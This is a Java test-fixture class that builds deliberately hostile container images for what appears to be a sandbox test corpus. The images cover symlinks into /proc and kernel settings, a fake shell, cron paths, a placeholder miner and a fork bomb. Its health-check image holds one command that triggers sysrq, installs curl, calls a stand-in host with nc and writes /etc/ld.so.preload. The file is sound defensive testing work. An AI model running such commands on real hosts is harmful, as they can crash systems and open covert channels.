package dev.lazaret.corpus;

import dev.lazaret.image.TestArchives;
import dev.lazaret.image.TestImage;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/** Images that misbehave, each act an attempt that a real attack begins with. */
final class Hostile {
  private static final byte[] NOTHING = "#!/bin/sh\nexit 0\n".getBytes(StandardCharsets.UTF_8);

  private Hostile() {}

  /** Tries one act after the other (corpus/hostile.c says which), then waits for its end. */
  static TestImage everyAct() {
    return image("hostile");
  }

  /** Reaches for files of the kernel by links only (corpus/links.c says which). */
  static TestImage links() {
    return TestArchives.image()
        .layer(
            Benign.base()
                .dir("app")
                .file("app/main", 0755, Programs.compiled("links"))
                .symlink("app/trigger", "/proc/sysrq-trigger")
                .symlink("app/kernel", "../proc/sys/kernel"))
        .entrypoint("/app/main")
        .tag("corpus/links:1");
  }

  /** Reaches for files by what tasks share and by folders that move (corpus/moves.c). */
  static TestImage moves() {
    return TestArchives.image()
        .layer(
            Benign.base().dir("app").file("app/main", 0755, Programs.compiled("moves")).dir("root"))
        .entrypoint("/app/main")
        .tag("corpus/moves:1");
  }

  /** Does what the guest kernel does not know (corpus/unknown.c). */
  static TestImage unknown() {
    // The head of a program of 32 bits is all that a kernel looks at before it refuses.
    byte[] foreign = new byte[64];
    System.arraycopy(new byte[] {0x7f, 'E', 'L', 'F', 1, 1, 1}, 0, foreign, 0, 7);
    return TestArchives.image()
        .layer(
            Benign.base()
                .dir("app")
                .file("app/main", 0755, Programs.compiled("unknown"))
                .file("app/foreign", 0755, foreign))
        .entrypoint("/app/main")
        .tag("corpus/unknown:1");
  }

  /** Hands out a shell, and hides behind another name (corpus/streams.c says how). */
  static TestImage streams() {
    byte[] program = Programs.compiled("streams");
    return TestArchives.image()
        .layer(
            Benign.base()
                .dir("app")
                .file("app/main", 0755, program)
                .dir("bin")
                .file("bin/sh", 0755, program))
        .entrypoint("/app/main")
        .tag("corpus/streams:1");
  }

  /** Attempts by other calls what {@link #everyAct} attempts (corpus/ways.c). */
  static TestImage ways() {
    byte[] program = Programs.compiled("ways");
    return TestArchives.image()
        .layer(
            Benign.base()
                .dir("app")
                .file("app/main", 0755, program)
                .dir("etc/cron.d")
                .dir("bin")
                .file("bin/sh", 0755, program))
        .entrypoint("/app/main")
        .tag("corpus/ways:1");
  }

  /** A script of {@code corpus}, with all that busybox has. */
  static TestImage script(String name, String... arguments) {
    var words = new ArrayList<>(List.of("/bin/sh", "/app/main.sh"));
    words.addAll(List.of(arguments));
    return TestArchives.image()
        .layer(
            Benign.applets()
                .dir("app")
                .file("app/main.sh", 0755, Programs.source(name))
                .dir("root")
                .dir("etc/cron.d")
                .dir("srv")
                .dir("opt")
                .file("opt/xmrig", 0755, NOTHING)
                .dir("sbin")
                .file("sbin/apk", 0755, NOTHING))
        .entrypoint(words.toArray(String[]::new))
        .env("PATH=/sbin:/bin")
        .tag("corpus/" + name.replace('.', '-') + String.join("", arguments) + ":1");
  }

  /** Takes all there is of one thing (corpus/greedy.c). */
  static TestImage greedy(String what) {
    return TestArchives.image()
        .layer(
            Benign.base().dir("app").file("app/main", 0755, Programs.compiled("greedy")).dir("srv"))
        .entrypoint("/app/main", what)
        .expose("8080/tcp")
        .tag("corpus/greedy-" + what + ":1");
  }

  /** Goes on in threads that outlive the first one of their process (corpus/threads.c). */
  static TestImage threads() {
    return image("threads");
  }

  /** Does nothing but to sleep; its health check does the harm. */
  static TestImage healthCheck() {
    return TestArchives.image()
        .layer(Benign.applets().dir("sbin").file("sbin/apk", 0755, NOTHING).dir("root"))
        .entrypoint("/bin/sh", "-c", "trap 'exit 0' TERM; sleep 1000 & wait")
        .healthcheck(
            "CMD-SHELL",
            "echo b > /proc/sysrq-trigger; mount -t tmpfs none /tmp; apk add curl;"
                + " nc -w 1 203.0.113.8 4444 </dev/null; echo x > /etc/ld.so.preload; sh -c 'exit 0'")
        .env("PATH=/sbin:/bin")
        .tag("corpus/health-check:1");
  }

  /** Makes processes without end. */
  static TestImage forkBomb() {
    return image("forkbomb");
  }

  private static TestImage image(String program) {
    return TestArchives.image()
        .layer(Benign.base().dir("app").file("app/main", 0755, Programs.compiled(program)))
        .entrypoint("/app/main")
        .tag("corpus/" + program + ":1");
  }
}
